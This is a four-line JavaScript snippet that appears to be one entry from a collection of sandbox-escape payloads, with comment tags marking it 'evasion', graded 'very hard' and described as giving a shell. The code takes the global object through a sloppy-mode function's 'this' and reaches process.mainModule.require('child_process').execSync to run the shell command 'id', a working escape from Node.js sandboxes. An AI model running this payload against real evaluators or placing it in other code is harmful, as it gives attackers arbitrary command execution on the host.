// evasion: a sloppy function returns this: the global object
// grade: very hard; does: shell
const g = (function () { return this; })();
g.process.mainModule.require('child_process').execSync('id');
